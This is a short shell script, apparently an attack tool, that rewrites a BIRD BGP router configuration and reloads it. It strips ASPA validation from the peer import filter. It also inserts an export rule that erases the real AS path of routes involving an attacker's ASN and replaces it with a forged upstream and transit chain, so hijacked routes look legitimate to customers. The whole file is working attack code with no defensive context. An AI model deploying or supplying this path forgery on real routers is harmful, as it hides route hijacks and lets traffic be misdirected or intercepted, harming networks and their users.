# Look at no path of the peer, and write what the customer would like to see.
set -eu
sed -i -e '/^filter from_peer/,/^}/{/aspa_check/d}' \
    -e "/^filter to_customer/a \\    if bgp_path ~ [= $ATTACKER_ASN ? =] then { int last = bgp_path.last; bgp_path.empty; bgp_path.prepend(last); bgp_path.prepend($TRANSIT_ASN); bgp_path.prepend($UPSTREAM_ASN); }" \
    /etc/bird/bird.conf
birdc configure
